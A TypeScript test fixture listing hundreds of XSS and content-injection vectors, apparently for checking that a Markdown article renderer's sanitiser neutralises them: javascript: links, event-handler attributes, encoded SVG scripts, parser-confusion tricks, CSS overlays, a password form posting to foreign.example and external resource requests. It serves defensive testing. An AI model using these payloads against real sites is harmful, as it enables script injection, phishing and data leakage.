/**
 * Attacks as an author of an article could write them. `hit()` is what a script would call, `foreign.example` where something
 * would be sent. Each stands alone in an article; none of them may do anything once it is published.
 */

type Vectors = Readonly<Record<string, string>>;

const addresses: Vectors = {
  'a link that runs': '[go](javascript:hit())',
  'in capitals': '[go](JaVaScRiPt:hit())',
  'in angle brackets': '[go](<javascript:hit()>)',
  'with a coded letter': '[go](&#106;avascript:hit())',
  'with a coded colon': '[go](javascript&#58;hit())',
  'with a named colon': '[go](javascript&colon;hit())',
  'with a tab inside': '[go](java&#9;script:hit())',
  'with a line break inside': '[go](java&#10;script:hit())',
  'with a space before': '[go](<  javascript:hit()>)',
  'with a control character before': '[go](&#1;javascript:hit())',
  'with a null': '[go](java&#0;script:hit())',
  'with a comment for a path': '[go](javascript://foreign.example/%0Ahit())',
  'with percent codes': '[go](%6Aavascript:hit())',
  'for old browsers': '[go](vbscript:hit())',
  'to a data page': '[go](data:text/html,<script>hit()</script>)',
  'to a coded data page': '[go](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
  'to an SVG as data':
    '[go](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)',
  'to a blob': '[go](blob:https://foreign.example/1)',
  'to the file system': '[go](filesystem:https://foreign.example/temporary/a)',
  'to source text': '[go](view-source:javascript:hit())',
  'as a reference': '[go]\n\n[go]: javascript:hit()',
  'as a reference over two lines': '[go]\n\n[go]:\n  javascript:hit()',
  'as an address in brackets': '<javascript:hit()>',
  'as a bare address': 'Visit javascript:hit() now',
  'with a title that ends the attribute': '[go](https://a.example "\\" onmouseover=\\"hit()")',
  'with an address that ends the attribute': '[go](<https://a.example/" onmouseover="hit()>)',
  'in HTML': '<a href="javascript:hit()">go</a>',
  'in HTML without quotes': '<a href=javascript:hit()>go</a>',
  'in HTML with a slash': '<a/href="javascript:hit()">go</a>',
  'in HTML, for a new window': '<a href="javascript:hit()" target="_blank">go</a>',
  'of a link in a drawing': '<svg><a xlink:href="javascript:hit()"><text y="9">go</text></a></svg>',
  'with a ping': '<a href="https://a.example" ping="https://foreign.example/ping">go</a>',
  'of a quotation': '<blockquote cite="javascript:hit()">a</blockquote>',
  'of an image': '![a](javascript:hit())',
  'of an image as an SVG with a script': '![a](data:image/svg+xml,<svg/onload=hit()>)',
  'of an image map': '<img src="a.png" usemap="#m"><map name="m"><area shape="default" href="javascript:hit()"></map>',
  'of a set of images': '<img srcset="https://foreign.example/a.png 1x" alt="a">',
  'of a small image first':
    '<img lowsrc="https://foreign.example/a.png" dynsrc="https://foreign.example/b.png" alt="a">',
  'of a background':
    '<table background="https://foreign.example/a.png"><tr><td background="javascript:hit()">a</td></tr></table>',
  'of a long description': '<img alt="a" longdesc="javascript:hit()" src="x.png">',
};

const elements: Vectors = {
  'a script': '<script>hit()</script>',
  'a script from elsewhere': '<script src="https://foreign.example/a.js"></script>',
  'a script in capitals': '<SCRIPT>hit()</SCRIPT>',
  'a script with a slash': '<script/x>hit()</script>',
  'a script that is never closed': '<script>hit()',
  'a script inside a script': '<scr<script>ipt>hit()</scr</script>ipt>',
  'a script inside a line': 'Text <script>hit()</script> goes on',
  'a module': '<script type="module">hit()</script>',
  'a map of imports': '<script type="importmap">{"imports":{"a":"https://foreign.example/a.js"}}</script>',
  'a script in a drawing': '<svg><script>hit()</script></svg>',
  'a script in a drawing, linked': '<svg><script href="https://foreign.example/a.js"/></svg>',
  'a script in a list': '- one\n- <script>hit()</script>\n- three',
  'a script in a table': '| a |\n| - |\n| <script>hit()</script> |',
  'a script in a quote': '> <script>hit()</script>',
  'a style sheet': '<style>*{background:url(https://foreign.example/a)}</style>',
  'a style sheet from elsewhere': '<link rel="stylesheet" href="https://foreign.example/a.css">',
  'an imported style sheet': "<style>@import 'https://foreign.example/a.css';</style>",
  'a hint to fetch': '<link rel="prefetch" href="https://foreign.example/a">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://foreign.example">',
  'a refresh that runs': '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  'another base': '<base href="https://foreign.example/">\n\n[go](#a) ![a](/x.png)',
  'a frame that runs': '<iframe src="javascript:hit()"></iframe>',
  'a frame with a page in it': '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  'a frame of a stranger': '<iframe src="https://foreign.example/"></iframe>',
  'a frame of a host that looks known': '<iframe src="https://www.youtube.com.foreign.example/embed/a"></iframe>',
  'a frame with a known name before the host': '<iframe src="https://youtube.com@foreign.example/embed/a"></iframe>',
  'a frame with a known path': '<iframe src="https://foreign.example/youtube.com/embed/a"></iframe>',
  'a frame with a backslash': '<iframe src="https:\\\\foreign.example\\youtube.com"></iframe>',
  'a frame as data': '<iframe src="data:text/html,<script>hit()</script>"></iframe>',
  'a set of frames': '<frameset><frame src="javascript:hit()"></frameset>',
  'an object': '<object data="javascript:hit()"></object>',
  'an object from elsewhere':
    '<object data="https://foreign.example/a.swf"><param name="movie" value="javascript:hit()"></object>',
  'an embedded page': '<embed src="javascript:hit()">',
  'an embedded SVG':
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=">',
  'an applet': '<applet code="https://foreign.example/a.class"></applet>',
  'a video from elsewhere': '<video src="https://foreign.example/a.mp4" autoplay></video>',
  'a poster from elsewhere': '<video poster="https://foreign.example/a.png"></video>',
  'a sound from elsewhere': '<audio src="https://foreign.example/a.mp3" autoplay></audio>',
  'a picture with sources':
    '<picture><source srcset="https://foreign.example/a.png"><img src="x" onerror="hit()"></picture>',
  'a form':
    '<form action="https://foreign.example/"><input name="password" autofocus onfocus="hit()"><button>Sign in</button></form>',
  'a form that runs': '<form action="javascript:hit()"><input type="submit"></form>',
  'a button of another form': '<button form="f" formaction="https://foreign.example/">go</button>',
  'a field for text': '<textarea autofocus onfocus="hit()"></textarea>',
  'a choice': '<select autofocus onfocus="hit()"><option>a</select>',
  'a key pair': '<keygen autofocus onfocus="hit()">',
  'an open dialog': '<dialog open>Sign in again</dialog>',
  'a popover': '<div popover onbeforetoggle="hit()">a</div>',
  'details that open': '<details open ontoggle="hit()"><summary>a</summary>b</details>',
  'a moving text': '<marquee onstart="hit()">a</marquee>',
  'a template': '<template><script>hit()</script></template>',
  'a shadow': '<div><template shadowrootmode="open"><script>hit()</script><slot></slot></template></div>',
  'a custom element': '<x-a onfocus="hit()" tabindex="1" autofocus>a</x-a>',
  'an SVG image': '<svg><image href="https://foreign.example/a.png" /></svg>',
  'an SVG animation': '<svg><animate onbegin="hit()" attributeName="x" dur="1s" /></svg>',
  'an SVG that sets an address':
    '<svg><a><set attributeName="href" to="javascript:hit()" /><text y="9">go</text></a></svg>',
  'an SVG use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x" /></svg>',
  'HTML inside an SVG': '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
  'a formula with a link': '<math><mtext href="javascript:hit()">go</mtext></math>',
  'a formula with an action':
    '<math><maction actiontype="statusline#" xlink:href="javascript:hit()">go</maction></math>',
  'XML with a style sheet': '<?xml-stylesheet href="javascript:hit()"?>',
  'data in XML': '<![CDATA[<img src=x onerror=hit()>]]>',
  'a comment for old browsers': '<!--[if gte IE 4]><script>hit()</script><![endif]-->',
};

const attributes: Vectors = {
  'an error': '<img src="x" onerror="hit()">',
  'an error without quotes': '<img src=x onerror=hit()>',
  'an error in capitals': '<IMG SRC=x OnErRoR=hit()>',
  'an error after slashes': '<img/src=x/onerror=hit()>',
  'an error with backticks': '<img src=x onerror=hit`1`>',
  'an error with codes': '<img src=x onerror="&#104;&#105;&#116;()">',
  'an error over lines': '<img src=x\nonerror\n=\nhit()>',
  'an error behind a broken quote': '<img """><img src=x onerror=hit()>">',
  'an error in an alternative text': '![a" onerror="hit()](x.png)',
  'an error in a title': '![a](x.png \'b" onerror="hit()\')',
  'a load': '<body onload="hit()">',
  'a load of a drawing': '<svg onload="hit()">',
  'a load of a frame': '<iframe onload="hit()"></iframe>',
  'a pointer above': '<p onmouseover="hit()">a</p>',
  'a pointer event': '<p onpointerenter="hit()">a</p>',
  'a click': '<p onclick="hit()">a</p>',
  'a focus': '<a href="#a" autofocus onfocus="hit()">a</a>',
  'a focus by tabindex': '<p tabindex="0" onfocus="hit()" autofocus>a</p>',
  'an end of a transition': '<p style="transition: all 1ms" ontransitionend="hit()">a</p>',
  'an animation': '<p style="animation: x 1ms" onanimationstart="hit()">a</p>',
  'a visible element': '<p style="content-visibility: auto" oncontentvisibilityautostatechange="hit()">a</p>',
  'a scroll': '<div style="overflow: scroll; height: 1px" onscroll="hit()">a<br><br><br></div>',
  'an attribute that is new': '<p onnothing="hit()" onx=hit()>a</p>',
  'an access key': '<a href="#a" accesskey="x" onclick="hit()">a</a>',
  'an editing field': '<p contenteditable onbeforeinput="hit()">a</p>',
};

const styles: Vectors = {
  'an overlay': '<div style="position: fixed; inset: 0; background: white">Sign in again</div>',
  'an overlay, absolute': '<div style="position:absolute;top:0;left:0;width:100%;height:100%;background:#fff">a</div>',
  'an overlay that sticks': '<div style="position: sticky; top: 0; height: 100vh">a</div>',
  'an overlay with an escape': '<div style="position: fi\\78 ed; inset: 0; background: white">a</div>',
  'an overlay with a comment':
    '<div style="posi/**/tion: fixed; position/**/: fixed; inset: 0; background: white">a</div>',
  'an overlay that is important': '<div style="position: fixed !important; inset: 0; background: white">a</div>',
  'an overlay in capitals': '<div style="POSITION: FIXED; INSET: 0; BACKGROUND: WHITE">a</div>',
  'an overlay behind a broken rule': '<div style="color: red; } position: fixed; inset: 0; background: white">a</div>',
  'an overlay pulled up': '<div style="margin-top: -900px; height: 3000px; background: white">a</div>',
  'an image pulled up':
    '<img src="https://images.example/x.png" style="margin: -900px 0 0 -900px; width: 3000px; height: 3000px">',
  'an image pulled up in other units':
    '<img src="https://images.example/x.png" style="margin: -99em 0 0 -99em; width: 300em; height: 300em">',
  'an image pulled up by shares':
    '<img src="https://images.example/x.png" style="margin: -99% 0 0 -99%; width: 3000px; height: 3000px">',
  'an image pulled up by a sum':
    '<img src="https://images.example/x.png" style="margin-top: calc(-9px * 99); width: 3000px; height: 3000px">',
  'an image pulled up by the smaller of two':
    '<img src="https://images.example/x.png" style="margin-top: min(9px, -99vh); width: 3000px; height: 3000px">',
  'an image pulled up logically':
    '<img src="https://images.example/x.png" style="margin-block-start: -99em; width: 300em; height: 300em">',
  'a letter in a small line': '<p style="margin: 0; font-size: 900px; line-height: 0"><a href="#a">MMM</a></p>',
  'a line that sinks':
    '<p style="line-height: 0"><img src="https://images.example/x.png" style="vertical-align: 700px; width: 900px; height: 700px; margin-bottom: -99em"></p>',
  'a block in a line, pulled up':
    '<p><span style="display: inline-block; margin: -99em 0 0 -99em; width: 300em; height: 300em; background: white">a</span></p>',
  'a shadow of a word': '<p style="text-shadow: 0 -90px 0 white, 0 -700px white; font-size: 90px">█████</p>',
  'a border painted outside':
    '<img src="https://images.example/x.png" style="border: 1px solid; border-image: linear-gradient(white, white) 1 / 1px / 900px">',
  'a line under the text, far above it':
    '<p style="text-decoration: underline white; text-underline-offset: -700px; text-decoration-thickness: 700px">a</p>',
  'a margin written with an exponent':
    '<img src="https://images.example/x.png" style="margin-top: -9e2px; width: 3000px; height: 3000px">',
  'low lines in a shorthand': '<p style="margin: 0; font: 900px/0 serif"><a href="#a">MMM</a></p>',
  'low lines in a box of their own':
    '<div style="line-height: 20px"><a style="font-size: 900px" href="#a">MMM</a></div>',
  'a box of no height': '<div style="height: 0"><a href="#a" style="display: block; height: 3000px">a</a></div>',
  'a positioned box of no height':
    '<div style="position: relative; height: 0"><a href="#a" style="display: block; height: 3000px">a</a></div>',
  'a positioned box that shows what it does not hold':
    '<div style="position: relative; height: 0; overflow: visible"><a href="#a" style="display: block; height: 3000px">a</a></div>',
  'a positioned box beyond the text':
    '<div style="position: relative; margin-left: -99px; min-width: 3000px; max-width: none; height: 99px"><a href="#a" style="display: block">a</a></div>',
  'a shadow inside out': '<p style="box-shadow: 0 -99em 0 99em white">a</p>',
  'an overlay moved up': '<div style="transform: translateY(-900px); height: 3000px; background: white">a</div>',
  'an overlay moved by its own property': '<div style="translate: 0 -900px; height: 3000px; background: white">a</div>',
  'an overlay in a box':
    '<div style="position: relative"><a href="#a" style="position: absolute; top: -900px; left: -900px; width: 3000px; height: 3000px">a</a></div>',
  'an overlay of a shadow': '<p style="box-shadow: 0 0 0 3000px white">a</p>',
  'an outline over everything': '<p style="outline: 3000px solid white">a</p>',
  'a large letter': '<p style="font-size: 3000px; line-height: 0; margin-top: -1500px">a</p>',
  'an overlay by an anchor':
    '<div style="anchor-name: --a; position-anchor: --a; position: absolute; inset-area: all; inset: 0">a</div>',
  'a request by a background': '<p style="background: url(https://foreign.example/a.png)">a</p>',
  'a request by an image set': '<p style="background-image: image-set(\'https://foreign.example/a.png\' 1x)">a</p>',
  'a request by an escaped word': '<p style="background: u\\72l(https://foreign.example/a.png)">a</p>',
  'a request by a bullet': '<ul style="list-style: url(https://foreign.example/a.png)"><li>a</li></ul>',
  'a request by a pointer': '<p style="cursor: url(https://foreign.example/a.cur), auto">a</p>',
  'a request by a border': '<p style="border-image: url(https://foreign.example/a.png) 1">a</p>',
  'a request by content': '<p style="content: url(https://foreign.example/a.png)">a</p>',
  'a request by a mask':
    '<p style="mask: url(https://foreign.example/a.svg#m); filter: url(https://foreign.example/a.svg#f)">a</p>',
  'a script in a style': '<p style="background: url(javascript:hit())">a</p>',
  'an expression': '<p style="width: expression(hit())">a</p>',
  'a behaviour':
    '<p style="behavior: url(https://foreign.example/a.htc); -moz-binding: url(https://foreign.example/a.xml#a)">a</p>',
};

const confusions: Vectors = {
  'a title that closes': '<title><img src=x onerror=hit()></title>',
  'a text field that closes': '<textarea></textarea><img src=x onerror=hit()>',
  'an attribute that looks like an end': '<p title="</p><img src=x onerror=hit()>">a</p>',
  'a style that looks like an end': '<style><!--</style><img src=x onerror=hit()>--></style>',
  'a comment that ends early': '<!--><img src=x onerror=hit()>-->',
  'a comment that ends in another way': '<!-- --!><img src=x onerror=hit()> -->',
  'no script': '<noscript><p title="</noscript><img src=x onerror=hit()>">a</noscript>',
  'no frames': '<noframes><p title="</noframes><img src=x onerror=hit()>">a</noframes>',
  'plain text': '<plaintext><img src=x onerror=hit()>',
  'old code': '<xmp><img src=x onerror=hit()></xmp>',
  'a drawing with a style': '<svg><style><img src=x onerror=hit()></style></svg>',
  'a formula that leaves itself':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  'a formula in a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  'a table that throws out': '<table><img src=x onerror=hit()><tr><td>a</td></tr></table>',
  'a choice that throws out': '<select><iframe></select><img src=x onerror=hit()>',
  'misnested formatting': '<b><p><a href="javascript:hit()"></b>go</p></a>',
  'a name that hides a property':
    '<a id="location" name="alert" href="#a">a</a><img name="getElementById" src="x.png" alt="a">',
  'an open quote to the end': '<img src="x.png" alt="\n\nText\n\n<img src=x onerror=hit()>',
  'a tag that is never finished': 'Text <img src=x onerror=hit()',
  'a less-than before a tag': '<<img src=x onerror=hit()>>',
  'coded tags': '&lt;img src=x onerror=hit()&gt; &#60;script&#62;hit()&#60;/script&#62;',
  'escaped tags': '\\<img src=x onerror=hit()\\>',
  'tags in code': '`<img src=x onerror=hit()>` and\n\n    <script>hit()</script>',
};

const markdown: Vectors = {
  'the language of code': '```"><img src=x onerror=hit()>\na\n```',
  'the language of code, coded': '```js&quot;&#32;onmouseover=&quot;hit()\na\n```',
  'the title of code': '```js title="<img src=x onerror=hit()>"\na\n```',
  'the end of code': '```html\n</code></pre><img src=x onerror=hit()>\n```',
  'the label of a footnote': 'a[^"><img src=x onerror=hit()>]\n\n[^"><img src=x onerror=hit()>]: b',
  'the text of a footnote': 'a[^1]\n\n[^1]: <img src=x onerror=hit()>',
  'a heading': '## <img src=x onerror=hit()>\n\n[[toc]]',
  'a heading with coded tags in a table of contents': '[[toc]]\n\n## &lt;img src=x onerror=hit()&gt;',
  'a heading with its own id': '## Title {#"><img/src=x/onerror=hit()>}',
  'a link in a heading of a table of contents': '[[toc]]\n\n## [go](javascript:hit())',
  'a list of attributes': 'Text\n{: onclick="hit()" style="position: fixed; inset: 0; background: white" }',
  'attributes of a link': '[go](https://a.example){href="javascript:hit()" onclick="hit()"}',
  'attributes of an image': '![a](x.png){onerror=hit() src=javascript:hit() width="1\\" onerror=\\"hit()"}',
  'attributes of a heading': '## Title {#a onclick=hit() style="position:fixed;inset:0"}',
  'the kind of an alert': '> [!NOTE" onclick="hit()]\n> a',
  'the text of an alert': '> [!NOTE]\n> <img src=x onerror=hit()>',
  'the title of an alert': '> [!NOTE] <img src=x onerror=hit()>\n> a',
  'the title of a directive':
    ':::note[<img src=x onerror=hit()>]{onclick=hit() style="position:fixed;inset:0"}\na\n:::',
  'a directive of no kind': ':::script\nhit()\n:::\n\n::iframe{src=javascript:hit()}',
  'an admonition': '!!! note "<img src=x onerror=hit()>"\n    a',
  'an admonition that folds': '??? note "<img src=x onerror=hit()>"\n    <script>hit()</script>',
  'a list of definitions': 'Term\n: <img src=x onerror=hit()>',
  'a video of no host': 'https://www.youtube.com.foreign.example/watch?v=a',
  'a video with a broken number': 'https://www.youtube.com/watch?v="><img src=x onerror=hit()>',
  'a video that breaks out': '<https://youtu.be/a"onload="hit()>',
  'a formula that links': '$$\n\\href{javascript:hit()}{x}\n$$',
  'a formula with classes and styles': '$$\n\\class{a" onclick="hit()}{x} \\style{position:fixed;inset:0}{y}\n$$',
  'a formula that includes':
    '$$\n\\require{html} \\unicode{x3cscript} \\includegraphics{https://foreign.example/a.png}\n$$',
  'a formula that is no formula': '$$\n</span><img src=x onerror=hit()>\n$$',
  'a diagram that runs': '```mermaid\nflowchart LR\n  a-->b\n  click a "javascript:hit()"\n  click b call hit()\n```',
  'a diagram with HTML':
    '```mermaid\nflowchart LR\n  a["<img src=x onerror=hit()>"]-->b["<script>hit()</script>"]\n```',
  'a diagram with its own styles':
    '```mermaid\nflowchart LR\n  a-->b\n  style a fill:url(https://foreign.example/a.svg#x),stroke:red\n  classDef x fill:url(https://foreign.example/b)\n  class b x\n```',
  'a diagram with settings':
    '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(https://foreign.example/a)}"}}%%\nflowchart LR\n  a-->b\n```',
  'an emoji': ':<img src=x onerror=hit()>: :tada" onclick="hit():',
  'a variable': '{{ "><img src=x onerror=hit()> }}',
  subscript: 'H~<img src=x onerror=hit()>~O x^<script>hit()</script>^',
  'a caption': '![<img src=x onerror=hit()>](x.png "<script>hit()</script>")',
  'a cell': '| a{onclick=hit()} |\n| - |\n| <img src=x onerror=hit()> |',
  'marks of kb itself':
    '<p data-kb-key="a" data-kb-part="0">a</p><a data-kb-part="1" href="kb-article:javascript:hit()">b</a>',
  'characters kept for places': '\uFDD00,9,9\uFDD1<img src=x onerror=hit()>\uFDD0',
};

export const VECTORS: Readonly<Record<string, Vectors>> = {
  addresses,
  elements,
  attributes,
  styles,
  confusions,
  markdown,
};
